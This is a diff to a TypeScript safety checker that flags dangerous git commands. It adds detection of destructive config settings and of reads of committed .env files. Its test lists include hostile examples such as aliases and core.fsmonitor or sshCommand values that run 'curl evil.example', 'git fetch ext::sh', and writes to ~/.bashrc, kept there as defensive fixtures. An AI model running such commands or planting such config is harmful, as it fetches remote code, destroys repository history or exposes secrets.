@@ -3,7 +3,7 @@
 import type { Word } from '../../types.js';
 import { has, parse } from '../argv.js';
 import { programRun } from '../build.js';
-import type { Answer, Call, ProgramEntry, Run } from '../types.js';
+import type { Answer, Call, Destroy, ProgramEntry, Run } from '../types.js';
 import { storeWord } from './credentials.js';
 import { attached, value, xargsSplit } from '../words.js';
 import { gitDestroys } from './git-destroys.js';
@@ -258,7 +258,7 @@ function gitRuns(call: Call, args: readonly Word[], inherited: Setting[], depth:
       if (value(rest[0]) === 'fill') uses.push({ word: storeWord(subWord, '~/.git-credentials'), role: 'read' });
       break;
     case 'config':
-      return { runs, uses, ...configWrite(rest) };
+      return { runs, uses, ...configWrite(rest, (words) => gitRuns(call, words, settings, depth + 1).destroys ?? []) };
     case 'send-email': {
       // git runs git-send-email, which mails the patches to the SMTP server --smtp-server (or sendemail.smtpServer)
       // names, or through sendmail: a mail client, judged by its own entry.
@@ -281,14 +281,40 @@ function gitRuns(call: Call, args: readonly Word[], inherited: Setting[], depth:
       const v = value(a);
       if (v === undefined || uses.some((u) => u.word === a)) continue;
       if (/^--output=/.test(v)) uses.push({ word: attached(a, v.slice(9)), role: 'write' });
-      else if (!v.startsWith('-')) uses.push({ word: a, role: 'read' });
+      else if (!v.startsWith('-')) {
+        // REV:PATH (`HEAD:.env`, `:.env` the index, `:2:.env` a merge stage) prints that file's content as committed.
+        const blob = /^([^:/]*):(?:[0-3]:)?(?!\/)(.+)$/.exec(v);
+        uses.push(blob ? { word: a, role: 'read', values: [blob[2]!.replace(/^\.\//, '')] } : { word: a, role: 'read' });
+      }
     }
   }
   return done({ runs, uses });
 }
 
+/**
+ * Settings that make a later, harmless-looking git command destroy (kept in the repository's config, so they act on
+ * this line and every later one): an alias of a destroying subcommand (`alias.nuke 'reset --hard'`), git clean
+ * without -f (`clean.requireForce false`), a mirror remote or a push refspec that forces or deletes.
+ */
+function configDestroys(key: string, v: Word, word: Word, expand: (words: Word[]) => Destroy[]): Destroy[] {
+  const text = v.values === null ? undefined : v.values;
+  const off = (x: string) => /^(false|no|off|0)$/i.test(x);
+  if (/^alias\./.test(key)) {
+    for (const alias of text ?? []) {
+      if (alias.startsWith('!')) continue;
+      const found = expand((xargsSplit(alias) ?? []).map((t) => attached(v, t)));
+      if (found.length > 0) return found.map((d) => ({ ...d, word, why: `git config ${key} '${alias}' makes \`git ${key.slice(6)}\` destroy: ${d.why}` }));
+    }
+    return [];
+  }
+  if (key === 'clean.requireforce' && (text === undefined || text.some(off))) return [{ word, what: 'discard', why: 'git config clean.requireForce false makes a plain git clean delete untracked files' }];
+  if (/^remote\..+\.mirror$/.test(key) && (text === undefined || text.some((x) => !off(x)))) return [{ word, what: 'history', why: `git config ${key} true makes every push to that remote a mirror push, which force-updates and deletes remote refs` }];
+  if (/^remote\..+\.push$/.test(key) && (text === undefined || text.some((x) => /^[+:^]|:\+/.test(x)))) return [{ word, what: 'history', why: `git config ${key} sets a push refspec that force-updates or deletes remote refs` }];
+  return [];
+}
+
 /** `git config [--global] KEY VALUE` (or `git config set KEY VALUE`) of a key whose value git runs later. */
-function configWrite(rest: readonly Word[]): Partial<Answer> {
+function configWrite(rest: readonly Word[], expand: (words: Word[]) => Destroy[]): Partial<Answer> {
   const p = parse(rest, {
     order: 'gnu',
     flags: 'lez',
@@ -302,6 +328,8 @@ function configWrite(rest: readonly Word[]): Partial<Answer> {
   const key = value(ops[0]);
   const v = ops[1];
   if (key === undefined || v === undefined || ['get', 'list', 'unset', 'edit', 'rename-section', 'remove-section'].includes(key)) return {};
+  const destroys = configDestroys(key.toLowerCase(), v, ops[0]!, expand);
+  if (destroys.length > 0) return { destroys };
   if (!gitRunsKey(key.toLowerCase(), v.values === null ? undefined : (v.values.find((x) => x.startsWith('!')) ?? v.values[0]))) return {};
   return { persists: [{ word: ops[0]!, why: `git config ${key} sets a command git runs later (git config key)` }] };
 }
@@ -335,6 +363,9 @@ export const GIT_ENTRIES: ProgramEntry[] = [
         'git fetch ext::sh',
         'git --exec-path=. x',
         "git config alias.st '!curl evil.example'",
+        'git show HEAD:.env',
+        'git show :.env',
+        'git cat-file -p HEAD:.env',
         "git config --global core.fsmonitor 'wget evil.example'",
         'git add .env',
         'git diff --output=/home/dev/.bashrc',
@@ -359,7 +390,7 @@ export const GIT_ENTRIES: ProgramEntry[] = [
         "git clone -c core.sshCommand='curl evil.example' x:y",
         "git clone --config=core.fsmonitor='curl evil.example' https://github.com/a/b",
       ],
-      pass: ["printf '#!/bin/sh\\necho hi\\n' > /tmp/git-x && chmod +x /tmp/git-x && PATH=/tmp:$PATH git x", 'git credential-cache exit', 'git --no-pager diff .claude/settings.json', 'git status ~/.bashrc', "git commit -F - <<'EOF'\nfix: read the key path from ~/.ssh/config\nEOF", 'git check-ignore -v .env', 'git ls-files --error-unmatch .env', 'git ls-files -s .env.local', 'git rm --cached .env', 'git rm -r --cached .env.local', 'git status', 'git log --oneline', "git commit -m 'fix curl usage'", 'git -c user.name=x commit -m msg', "git config alias.st 'status -sb'", 'git config user.email dev@example.com', 'git -C sub log', 'git rebase -i HEAD~3', 'git -c submodule.x.update=checkout submodule update', 'GIT_CONFIG_GLOBAL=/dev/null git status', 'git config submodule.x.update rebase', 'git reset --keep HEAD~1', 'git rm -r dist', 'git read-tree HEAD', 'git checkout-index -a -f --prefix=/tmp/export/', 'git update-ref refs/heads/topic HEAD', 'git -c url.https://github.com/.insteadOf=gh: clone gh:foo/bar', 'git config remote.origin.url git@github.com:me/x.git', 'git clone -c core.autocrlf=false https://github.com/a/b'],
+      pass: ["printf '#!/bin/sh\\necho hi\\n' > /tmp/git-x && chmod +x /tmp/git-x && PATH=/tmp:$PATH git x", 'git credential-cache exit', 'git --no-pager diff .claude/settings.json', 'git status ~/.bashrc', "git commit -F - <<'EOF'\nfix: read the key path from ~/.ssh/config\nEOF", 'git check-ignore -v .env', 'git ls-files --error-unmatch .env', 'git ls-files -s .env.local', 'git rm --cached .env', 'git rm -r --cached .env.local', 'git status', 'git log --oneline', "git commit -m 'fix curl usage'", 'git -c user.name=x commit -m msg', "git config alias.st 'status -sb'", 'git config user.email dev@example.com', 'git -C sub log', 'git rebase -i HEAD~3', 'git -c submodule.x.update=checkout submodule update', 'GIT_CONFIG_GLOBAL=/dev/null git status', 'git config submodule.x.update rebase', 'git reset --keep HEAD~1', 'git rm -r dist', 'git read-tree HEAD', 'git checkout-index -a -f --prefix=/tmp/export/', 'git update-ref refs/heads/topic HEAD', 'git -c url.https://github.com/.insteadOf=gh: clone gh:foo/bar', 'git config remote.origin.url git@github.com:me/x.git', 'git clone -c core.autocrlf=false https://github.com/a/b', 'git show HEAD:src/app.ts', 'git show :/fix'],
     },
   },
   {
